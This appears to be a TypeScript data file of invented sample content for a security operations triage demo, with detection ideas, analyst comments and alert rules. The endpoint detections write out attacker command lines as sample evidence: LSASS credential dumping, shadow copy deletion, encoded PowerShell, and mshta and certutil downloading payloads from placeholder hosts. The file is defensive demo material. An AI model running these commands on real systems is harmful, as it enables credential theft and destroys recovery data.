/**
 * Invented triage content for the demo: integrations, detections, comments, mute ideas and alert
 * rules. Nothing here comes from a real tenant; ids and tenant names are made up by the generator.
 */

/** The products that send alerts, keyed by the alert's external_source. Sysmon and Syslog come
 * through the agent, not through an integration, so their alerts have no integration_id. */
export const INTEGRATIONS = [
  {
    source: 'Microsoft Defender',
    kind: 'microsoft_defender',
    name: 'Microsoft Defender for Endpoint',
    release: 'stable',
  },
  { source: 'Entra ID', kind: 'entra_id', name: 'Microsoft Entra ID', release: 'stable' },
  { source: 'O365', kind: 'microsoft_365', name: 'Microsoft 365', release: 'stable' },
  { source: 'Webroot', kind: 'webroot', name: 'Webroot Endpoint Protection', release: 'stable' },
  { source: 'Acronis EDR', kind: 'acronis_edr', name: 'Acronis Cyber Protect EDR', release: 'beta' },
  { source: 'Email Security', kind: 'email_security', name: 'Email Security Gateway', release: 'stable' },
] as const;

export type DetectionFamily = 'endpoint' | 'identity' | 'email' | 'network';

/** Which kind of evidence a source produces. */
export const SOURCE_FAMILY: Record<string, DetectionFamily> = {
  'Microsoft Defender': 'endpoint',
  'Acronis EDR': 'endpoint',
  Webroot: 'endpoint',
  Sysmon: 'endpoint',
  'Entra ID': 'identity',
  O365: 'email',
  'Email Security': 'email',
  Syslog: 'network',
};

export interface DetectionIdea {
  name: string;
  technique: string;
  /** Process image and command line for endpoint evidence. */
  image?: string;
  command?: string;
}

export const DETECTIONS: Record<DetectionFamily, readonly DetectionIdea[]> = {
  endpoint: [
    {
      name: 'Suspicious PowerShell command line',
      technique: 'T1059.001 PowerShell',
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      command: 'powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0A',
    },
    {
      name: 'Windows command shell spawned by Office application',
      technique: 'T1059.003 Windows Command Shell',
      image: 'C:\\Windows\\System32\\cmd.exe',
      command: 'cmd.exe /c start /b %TEMP%\\update.bat',
    },
    {
      name: 'Credential dumping from LSASS memory',
      technique: 'T1003.001 LSASS Memory',
      image: 'C:\\Windows\\System32\\rundll32.exe',
      command: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\Temp\\ls.dmp full',
    },
    {
      name: 'Scheduled task created for persistence',
      technique: 'T1053.005 Scheduled Task',
      image: 'C:\\Windows\\System32\\schtasks.exe',
      command: 'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Sync" /tr %APPDATA%\\sync.exe',
    },
    {
      name: 'Registry Run key modified',
      technique: 'T1547.001 Registry Run Keys',
      image: 'C:\\Windows\\System32\\reg.exe',
      command:
        'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d %APPDATA%\\upd.exe',
    },
    {
      name: 'Volume shadow copies deleted',
      technique: 'T1490 Inhibit System Recovery',
      image: 'C:\\Windows\\System32\\vssadmin.exe',
      command: 'vssadmin.exe delete shadows /all /quiet',
    },
    {
      name: 'Signed binary proxy execution via mshta',
      technique: 'T1218.005 Mshta',
      image: 'C:\\Windows\\System32\\mshta.exe',
      command: 'mshta.exe http://cdn-update.example/p.hta',
    },
    {
      name: 'Known malware file written to disk',
      technique: 'T1105 Ingress Tool Transfer',
      image: 'C:\\Windows\\System32\\certutil.exe',
      command: 'certutil.exe -urlcache -split -f http://files-share.example/t.exe t.exe',
    },
    {
      name: 'Remote service created',
      technique: 'T1569.002 Service Execution',
      image: 'C:\\Windows\\System32\\sc.exe',
      command: 'sc.exe \\\\FS01 create svcupd binPath= C:\\Windows\\Temp\\svc.exe',
    },
    {
      name: 'Discovery commands in quick succession',
      technique: 'T1087.002 Domain Account',
      image: 'C:\\Windows\\System32\\net.exe',
      command: 'net.exe group "Domain Admins" /domain',
    },
  ],
  identity: [
    { name: 'Sign-in from an unfamiliar location', technique: 'T1078.004 Cloud Accounts' },
    { name: 'Impossible travel between sign-ins', technique: 'T1078 Valid Accounts' },
    { name: 'Password spray against many accounts', technique: 'T1110.003 Password Spraying' },
    { name: 'MFA fatigue: repeated push denials', technique: 'T1621 MFA Request Generation' },
    { name: 'Suspicious inbox rule created', technique: 'T1564.008 Email Hiding Rules' },
    { name: 'OAuth app granted broad permissions', technique: 'T1528 Steal Application Access Token' },
  ],
  email: [
    { name: 'Phishing link in message body', technique: 'T1566.002 Spearphishing Link' },
    { name: 'Malicious attachment detonated in sandbox', technique: 'T1566.001 Spearphishing Attachment' },
    { name: 'Sender display name impersonates an executive', technique: 'T1656 Impersonation' },
    { name: 'Mail forwarded to an external address', technique: 'T1114.003 Email Forwarding Rule' },
  ],
  network: [
    { name: 'Outbound connection to known-bad address', technique: 'T1071.001 Web Protocols' },
    { name: 'Repeated SSH authentication failures', technique: 'T1110.001 Password Guessing' },
    { name: 'DNS query for a newly registered domain', technique: 'T1071.004 DNS' },
    { name: 'Port scan from an internal host', technique: 'T1046 Network Service Discovery' },
  ],
};

export const PARENT_IMAGES = [
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
  'C:\\Windows\\System32\\services.exe',
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
] as const;

export const APPS = [
  'Office 365 Exchange Online',
  'Microsoft Teams',
  'Azure Portal',
  'SharePoint Online',
] as const;
export const COUNTRIES = ['US', 'GB', 'DE', 'FI', 'NL', 'BR', 'NG', 'VN', 'RU', 'SG'] as const;
export const PHISH_SUBJECTS = [
  'Action required: password expires today',
  'Invoice 2024-0412 overdue',
  'Shared document: Q3 salary review',
  'Your parcel could not be delivered',
  'DocuSign: please review and sign',
] as const;

/** Staff comments; `{host}` and `{user}` are filled in from the alert. */
export const STAFF_COMMENTS = [
  'Checked the process tree on {host}: parent is a signed updater, looks benign. Monitoring for recurrence.',
  'Isolated {host} from the network while we collect the triage package.',
  'Contacted {user} by phone; they did not start this. Resetting the password and revoking sessions.',
  'Hash is not in any of our intel feeds yet. Submitted the sample to the sandbox.',
  'Same pattern as last week on another host of this customer. Linking to the case.',
  'Confirmed with the customer: this is their new RMM tool rolling out. Closing as benign.',
  'Escalating to tier 2: lateral movement attempt towards the file server.',
  'Blocked the sender domain at the gateway and purged the message from all mailboxes.',
  'User {user} confirmed travelling this week; sign-in location is expected.',
  'Ran a full scan on {host}, nothing further found. Leaving open until tomorrow.',
] as const;

/** Private notes between analysts: never shown to the customer. */
export const PRIVATE_COMMENTS = [
  'Internal: customer has had three of these this month, worth raising in the quarterly review.',
  'Note for the shift: do not call the customer before 09:00 their time.',
  'Internal: their EDR licence expires next month, the account manager knows.',
  'Possible tuning candidate, noisy rule for this estate. Check with Priya before muting.',
  'Internal: the contact on file left the company, use the IT manager instead.',
] as const;

/** Customer replies on their alerts. */
export const CUSTOMER_COMMENTS = [
  'That was me, I was installing the new accounting software on {host}.',
  'Thanks for the heads-up. We have reset the account of {user}.',
  'Can you tell us which other machines might be affected?',
  'This is our backup job, it runs every night at 02:00.',
  'We do not recognise this activity, please investigate further.',
  'The laptop {host} has been collected from the user and is switched off.',
] as const;

export const CASE_COMMENTS = [
  'Opened this case to track the related alerts together; timeline in the description.',
  'Customer informed by e-mail, awaiting confirmation of the affected users.',
  'All affected hosts reimaged, credentials rotated. Ready to close after a 48 h watch.',
  'Added the remaining alerts from the same host to this case.',
  'Root cause: phishing e-mail opened on Monday morning. Lessons learned shared with IT.',
] as const;

/** Why an analyst muted something, with the kind of condition it needs. */
export const MUTE_IDEAS = [
  {
    kind: 'host',
    description: 'Build server runs unsigned tooling from the CI pipeline; known and accepted.',
  },
  { kind: 'host', description: 'Vulnerability scanner host, its port scans are expected.' },
  { kind: 'title', value: 'Port scan', description: 'Quarterly penetration test by the customer’s auditor.' },
  {
    kind: 'title',
    value: 'PowerShell',
    description: 'Admin scripts during the migration project, until cut-over.',
  },
  { kind: 'title', value: 'sign-in', description: 'Travel of the sales team to the trade fair.' },
  {
    kind: 'source',
    value: 'Webroot',
    description: 'Duplicate alerts while Webroot and Defender both run on the estate.',
  },
] as const;

/** Alert rules: name, priority, query (the console's query language) and what it is for. */
export const ALERT_RULES = [
  [
    'Multiple failed logons',
    'medium',
    'event_id:4625 | count by user > 10 in 5m',
    'Brute force against one account.',
  ],
  [
    'Password spray',
    'high',
    'event_id:4625 | dcount(user) by source_ip > 20 in 10m',
    'Many accounts, one source.',
  ],
  [
    'Impossible travel',
    'high',
    'source:"Entra ID" and risk:impossible_travel',
    'Sign-ins from distant countries within an hour.',
  ],
  [
    'Encoded PowerShell',
    'high',
    'process:powershell.exe and command_line:*-enc*',
    'Obfuscated PowerShell is rarely benign.',
  ],
  ['LSASS access', 'critical', 'target_process:lsass.exe and access:0x1010', 'Credential dumping attempt.'],
  [
    'Shadow copy deletion',
    'critical',
    'process:vssadmin.exe and command_line:"delete shadows"',
    'Typical ransomware precursor.',
  ],
  [
    'New local administrator',
    'medium',
    'event_id:4732 and group:Administrators',
    'User added to local Administrators.',
  ],
  [
    'Office spawns shell',
    'high',
    'parent:(winword.exe or excel.exe) and process:(cmd.exe or powershell.exe)',
    'Macro-based initial access.',
  ],
  [
    'Inbox forwarding rule',
    'medium',
    'operation:New-InboxRule and forward_to:*',
    'Mail forwarded outside the organisation.',
  ],
  [
    'Malware detected',
    'high',
    'category:malware and action:!quarantined',
    'An AV detection the product could not clean.',
  ],
  [
    'Suspicious scheduled task',
    'medium',
    'event_id:4698 and task_command:*\\AppData\\*',
    'Persistence from a user profile.',
  ],
  [
    'RDP from the internet',
    'high',
    'event_id:4624 and logon_type:10 and source_ip:!private',
    'Remote desktop exposed.',
  ],
  [
    'Disabled security tool',
    'critical',
    'service:(WinDefend or Sense) and state:stopped',
    'Defences turned off.',
  ],
  ['Mass file rename', 'critical', 'file_renames by host > 500 in 1m', 'Encryption in progress.'],
  [
    'SSH brute force',
    'medium',
    'source:Syslog and message:"Failed password" | count by source_ip > 30 in 5m',
    'Internet noise or a real attack.',
  ],
  [
    'Outbound to known-bad IP',
    'high',
    'destination_ip in threat_indicators(det:B)',
    'Connection to a listed address.',
  ],
  [
    'Phishing link clicked',
    'high',
    'source:"Email Security" and action:clicked',
    'A user followed a flagged link.',
  ],
  [
    'MFA fatigue',
    'medium',
    'source:"Entra ID" and mfa_result:denied | count by user > 5 in 10m',
    'Push bombing.',
  ],
  ['Admin sign-in outside hours', 'low', 'role:admin and hour:(0..5)', 'Unusual but often legitimate.'],
  ['Large mailbox export', 'medium', 'operation:New-MailboxExportRequest', 'Possible data theft.'],
] as const;
